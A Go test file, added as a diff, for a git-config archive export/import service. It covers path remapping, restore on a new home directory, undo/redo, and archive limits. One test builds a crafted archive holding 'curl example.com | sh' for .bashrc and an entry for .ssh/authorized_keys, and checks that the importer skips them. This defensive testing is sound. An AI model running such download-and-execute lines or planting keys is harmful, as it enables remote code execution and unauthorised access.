@@ -0,0 +1,328 @@
+package gitcfg
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestRemapPath(t *testing.T) {
+	t.Parallel()
+
+	from := filepath.Join(string(filepath.Separator), "Users", "alice")
+	to := filepath.Join(string(filepath.Separator), "home", "alice")
+	mappings := []PathMapping{{From: from, To: to}}
+	tests := []struct {
+		path string
+		want string
+	}{
+		{path: from, want: to},
+		{path: filepath.Join(from, ".gitconfig"), want: filepath.Join(to, ".gitconfig")},
+		{path: from + "ice", want: from + "ice"},
+		{path: filepath.Join(string(filepath.Separator), "etc", "gitconfig"), want: filepath.Join(string(filepath.Separator), "etc", "gitconfig")},
+	}
+	for _, tt := range tests {
+		if got := remapPath(tt.path, mappings); got != tt.want {
+			t.Fatalf("remapPath(%q) = %q, want %q", tt.path, got, tt.want)
+		}
+	}
+}
+
+func TestRemapContent(t *testing.T) {
+	t.Parallel()
+
+	mappings := []PathMapping{{From: "/home/al", To: "/home/bob"}}
+	tests := []struct {
+		name string
+		text string
+		want string
+	}{
+		{
+			name: "include path",
+			text: "[include]\n\tpath = /home/al/work.gitconfig\n",
+			want: "[include]\n\tpath = /home/bob/work.gitconfig\n",
+		},
+		{
+			name: "path boundary",
+			text: "[include]\n\tpath = /home/alice/work.gitconfig\n[core]\n\texcludesFile = /home/al\n",
+			want: "[include]\n\tpath = /home/alice/work.gitconfig\n[core]\n\texcludesFile = /home/bob\n",
+		},
+		{
+			name: "includeIf condition",
+			text: "[includeIf \"gitdir:/home/al/work/\"]\n\tpath = \"/home/al/w.gitconfig\" # work\n",
+			want: "[includeIf \"gitdir:/home/bob/work/\"]\n\tpath = \"/home/bob/w.gitconfig\" # work\n",
+		},
+		{
+			name: "other values",
+			text: "[url \"file:///home/al/mirror/\"]\n\tinsteadOf = /home/al/repo\n[alias]\n\tco = !cd /home/al && git checkout\n",
+			want: "[url \"file:///home/al/mirror/\"]\n\tinsteadOf = /home/al/repo\n[alias]\n\tco = !cd /home/al && git checkout\n",
+		},
+	}
+	for _, tt := range tests {
+		if got := remapContent(tt.text, mappings); got != tt.want {
+			t.Fatalf("%s: remapContent returned %q, want %q", tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestArchiveExportImport(t *testing.T) {
+	s := newTestService(t)
+	ctx := context.Background()
+	oldHome, newHome := t.TempDir(), t.TempDir()
+	t.Setenv("HOME", oldHome)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(oldHome, ".config"))
+	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
+	t.Setenv("GIT_CONFIG_GLOBAL", "")
+	os.Unsetenv("GIT_CONFIG_GLOBAL")
+
+	profile := filepath.Join(oldHome, "profiles", "work.gitconfig")
+	for _, dir := range []string{filepath.Dir(profile), filepath.Join(oldHome, ".config", "git")} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("create %s: %v", dir, err)
+		}
+	}
+	writeTestFile(t, profile, "[user]\n\temail = alice@work.example\n")
+	writeTestFile(t, filepath.Join(oldHome, ".gitconfig"), "[user]\n\tname = Alice\n[include]\n\tpath = "+profile+"\n")
+	writeTestFile(t, filepath.Join(oldHome, ".config", "git", "config"), "[core]\n\teditor = vim\n")
+	repo := newTestRepository(t, s)
+	runGit(t, repo.Path, "config", "user.email", "alice@repo.example")
+	if err := s.AddRoot(filepath.Join(oldHome, "src")); err != nil {
+		t.Fatalf("AddRoot returned error: %v", err)
+	}
+	if _, err := s.UpsertRule(ctx, IncludeRule{Pattern: "gitdir:" + oldHome + "/work/", TargetPath: profile, Enabled: true}); err != nil {
+		t.Fatalf("UpsertRule returned error: %v", err)
+	}
+
+	for _, format := range []ArchiveFormat{ArchiveTarGz, ArchiveZip} {
+		archive := filepath.Join(t.TempDir(), "config."+string(format))
+		manifest, err := s.ExportArchive(ctx, ExportRequest{Path: archive, Format: format})
+		if err != nil {
+			t.Fatalf("%s: ExportArchive returned error: %v", format, err)
+		}
+		kinds := make(map[ArchiveFileKind]int)
+		for _, file := range manifest.Files {
+			kinds[file.Kind]++
+		}
+		if kinds[ArchiveFileGlobal] != 1 || kinds[ArchiveFileXDG] != 1 || kinds[ArchiveFileInclude] != 1 || kinds[ArchiveFileLocal] != 1 || len(manifest.Rules) != 1 || len(manifest.Roots) != 1 {
+			t.Fatalf("%s: unexpected manifest: %+v", format, manifest)
+		}
+		if info, err := os.Stat(archive); err != nil || info.Mode().Perm() != 0o600 {
+			t.Fatalf("%s: expected a private archive, got %v (%v)", format, info, err)
+		}
+
+		plan, err := s.PreviewImport(ctx, ImportRequest{Path: archive, RestoreState: true})
+		if err != nil {
+			t.Fatalf("%s: PreviewImport returned error: %v", format, err)
+		}
+		if len(plan.ReplacedRules) != 1 || plan.ReplacedRules[0].ID != manifest.Rules[0].ID {
+			t.Fatalf("%s: expected the restored rule to be marked as replacing the stored one, got %+v", format, plan.ReplacedRules)
+		}
+		// The home directory did not change, so everything is already in place.
+		for _, item := range plan.Items {
+			if item.Action != ImportUnchanged {
+				t.Fatalf("%s: expected %s to be unchanged, got %+v", format, item.TargetPath, item)
+			}
+		}
+	}
+
+	bogus := filepath.Join(t.TempDir(), "bogus.tar.gz")
+	writeTestFile(t, bogus, "not an archive")
+	if _, err := s.PreviewImport(ctx, ImportRequest{Path: bogus}); err == nil || !strings.Contains(err.Error(), "neither") {
+		t.Fatalf("expected an unknown format to be rejected, got %v", err)
+	}
+
+	archive := filepath.Join(t.TempDir(), "config.tar.gz")
+	if _, err := s.ExportArchive(ctx, ExportRequest{Path: archive}); err != nil {
+		t.Fatalf("ExportArchive returned error: %v", err)
+	}
+
+	// Restore on a machine with another home directory.
+	t.Setenv("HOME", newHome)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(newHome, ".config"))
+	target := NewService()
+	target.dataDir = t.TempDir()
+	req := ImportRequest{Path: archive, RestoreState: true}
+
+	plan, err := target.PreviewImport(ctx, req)
+	if err != nil {
+		t.Fatalf("PreviewImport returned error: %v", err)
+	}
+	actions := make(map[string]ImportAction)
+	for _, item := range plan.Items {
+		actions[item.TargetPath] = item.Action
+	}
+	newProfile := filepath.Join(newHome, "profiles", "work.gitconfig")
+	if actions[filepath.Join(newHome, ".gitconfig")] != ImportCreate || actions[newProfile] != ImportCreate ||
+		actions[filepath.Join(newHome, ".config", "git", "config")] != ImportCreate {
+		t.Fatalf("expected the user files to be created below the new home, got %+v", plan.Items)
+	}
+	if _, err := os.Stat(newProfile); !os.IsNotExist(err) {
+		t.Fatal("expected the preview not to write any file")
+	}
+	if len(plan.ReplacedRules) != 0 {
+		t.Fatalf("expected no stored rule to be replaced, got %+v", plan.ReplacedRules)
+	}
+
+	result, err := target.ImportArchive(ctx, req)
+	if err != nil {
+		t.Fatalf("ImportArchive returned error: %v", err)
+	}
+	if len(result.ChangeSets) != 3 {
+		t.Fatalf("expected three files to be written, got %+v", result.ChangeSets)
+	}
+	if got := gitConfigGet(t, newHome, "--file", filepath.Join(newHome, ".gitconfig"), "include.path"); got != newProfile {
+		t.Fatalf("expected the include to be remapped to %s, got %q", newProfile, got)
+	}
+	rules, _ := target.ListRules(ctx)
+	if len(rules) != 1 || rules[0].Pattern != "gitdir:"+newHome+"/work/" || rules[0].TargetPath != newProfile {
+		t.Fatalf("expected the rule to be remapped, got %+v", rules)
+	}
+	if roots := target.ListRoots(); len(roots) != 1 || roots[0] != filepath.Join(newHome, "src") {
+		t.Fatalf("expected the root to be remapped, got %v", roots)
+	}
+
+	if _, err := target.Undo(ctx); err != nil {
+		t.Fatalf("Undo returned error: %v", err)
+	}
+	if _, err := os.Stat(newProfile); !os.IsNotExist(err) {
+		t.Fatal("expected undo to remove the imported files")
+	}
+	if rules, _ := target.ListRules(ctx); len(rules) != 0 {
+		t.Fatalf("expected undo to remove the imported rule, got %+v", rules)
+	}
+	if roots := target.ListRoots(); len(roots) != 0 {
+		t.Fatalf("expected undo to remove the imported root, got %v", roots)
+	}
+	if _, err := target.Redo(ctx); err != nil {
+		t.Fatalf("Redo returned error: %v", err)
+	}
+	if roots := target.ListRoots(); len(roots) != 1 || roots[0] != filepath.Join(newHome, "src") {
+		t.Fatalf("expected redo to add the root again, got %v", roots)
+	}
+}
+
+func TestReadArchiveReadsOnlyListedEntries(t *testing.T) {
+	t.Parallel()
+
+	write := func(manifest ArchiveManifest, extra map[string][]byte) string {
+		path := filepath.Join(t.TempDir(), "config.tar.gz")
+		file, err := os.Create(path)
+		if err != nil {
+			t.Fatalf("create archive: %v", err)
+		}
+		defer file.Close()
+		gz := gzip.NewWriter(file)
+		tw := tar.NewWriter(gz)
+		add := func(name string, content []byte) {
+			if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
+				t.Fatalf("write header: %v", err)
+			}
+			if _, err := tw.Write(content); err != nil {
+				t.Fatalf("write entry: %v", err)
+			}
+		}
+		for name, content := range extra {
+			add(name, content)
+		}
+		data, err := json.Marshal(manifest)
+		if err != nil {
+			t.Fatalf("encode manifest: %v", err)
+		}
+		add(archiveManifestName, data)
+		if err := tw.Close(); err != nil {
+			t.Fatalf("close tar: %v", err)
+		}
+		if err := gz.Close(); err != nil {
+			t.Fatalf("close gzip: %v", err)
+		}
+		return path
+	}
+
+	content := []byte("[user]\n\tname = Alice\n")
+	manifest := ArchiveManifest{Version: archiveVersion, Files: []ArchiveFile{{Name: "files/0", Hash: contentHash(content)}}}
+	// The unlisted entry is larger than any entry may be, so reading it would fail.
+	path := write(manifest, map[string][]byte{"files/0": content, "files/junk": bytes.Repeat([]byte("x"), maxArchiveFileSize+1)})
+	_, entries, err := readArchive(path)
+	if err != nil {
+		t.Fatalf("readArchive returned error: %v", err)
+	}
+	if len(entries) != 1 || !bytes.Equal(entries["files/0"], content) {
+		t.Fatalf("expected only the listed entry to be read, got %d entries", len(entries))
+	}
+
+	manifest.Files = make([]ArchiveFile, maxArchiveFiles+1)
+	for i := range manifest.Files {
+		manifest.Files[i] = ArchiveFile{Name: fmt.Sprintf("files/%d", i)}
+	}
+	if _, _, err := readArchive(write(manifest, nil)); err == nil || !strings.Contains(err.Error(), "more than") {
+		t.Fatalf("expected a manifest listing too many files to be rejected, got %v", err)
+	}
+}
+
+func TestPreviewImportRejectsUnexpectedTargets(t *testing.T) {
+	s := newTestService(t)
+	ctx := context.Background()
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	t.Setenv("GIT_CONFIG_GLOBAL", "")
+	os.Unsetenv("GIT_CONFIG_GLOBAL")
+
+	profile := filepath.Join(home, "profile.gitconfig")
+	files := []struct {
+		file    ArchiveFile
+		content string
+	}{
+		{ArchiveFile{OriginalPath: filepath.Join(home, ".gitconfig"), Kind: ArchiveFileGlobal, Scope: ConfigScopeGlobal}, "[include]\n\tpath = " + profile + "\n"},
+		{ArchiveFile{OriginalPath: profile, Kind: ArchiveFileInclude, Scope: ConfigScopeGlobal}, "[user]\n\tname = Alice\n"},
+		{ArchiveFile{OriginalPath: filepath.Join(home, ".bashrc"), Kind: ArchiveFileInclude, Scope: ConfigScopeGlobal}, "curl example.com | sh\n"},
+		{ArchiveFile{OriginalPath: filepath.Join(home, ".ssh", "authorized_keys"), Kind: ArchiveFileGlobal, Scope: ConfigScopeGlobal}, "ssh-ed25519 AAAA\n"},
+		{ArchiveFile{OriginalPath: filepath.Join(home, ".profile"), Kind: ArchiveFileLocal, Scope: ConfigScopeLocal, RepositoryPath: home}, "[core]\n"},
+		{ArchiveFile{OriginalPath: "relative.gitconfig", Kind: ArchiveFileXDG, Scope: ConfigScopeGlobal}, "[core]\n"},
+	}
+	manifest := ArchiveManifest{Version: archiveVersion, Home: home, Roots: []string{"src", filepath.Join(home, "src")}}
+	contents := make(map[string][]byte)
+	for i, f := range files {
+		f.file.Name = filepath.ToSlash(filepath.Join("files", string(rune('a'+i))))
+		f.file.Hash = contentHash([]byte(f.content))
+		contents[f.file.Name] = []byte(f.content)
+		manifest.Files = append(manifest.Files, f.file)
+	}
+	data, err := json.Marshal(manifest)
+	if err != nil {
+		t.Fatalf("encode manifest: %v", err)
+	}
+	var buf bytes.Buffer
+	if err := writeTarArchive(&buf, data, manifest.Files, contents); err != nil {
+		t.Fatalf("writeTarArchive returned error: %v", err)
+	}
+	archive := filepath.Join(t.TempDir(), "crafted.tar.gz")
+	writeTestFile(t, archive, buf.String())
+
+	plan, err := s.PreviewImport(ctx, ImportRequest{Path: archive, RestoreState: true})
+	if err != nil {
+		t.Fatalf("PreviewImport returned error: %v", err)
+	}
+	want := []ImportAction{ImportCreate, ImportCreate, ImportSkip, ImportSkip, ImportSkip, ImportSkip}
+	if len(plan.Items) != len(want) {
+		t.Fatalf("expected %d planned files, got %+v", len(want), plan.Items)
+	}
+	for i, item := range plan.Items {
+		if item.Action != want[i] {
+			t.Fatalf("expected %s to be planned as %s, got %+v", item.File.OriginalPath, want[i], item)
+		}
+		if item.Action == ImportSkip && item.Reason == "" {
+			t.Fatalf("expected a reason for skipping %s", item.File.OriginalPath)
+		}
+	}
+	if len(plan.Roots) != 1 || plan.Roots[0] != filepath.Join(home, "src") {
+		t.Fatalf("expected the relative root to be dropped, got %v", plan.Roots)
+	}
+}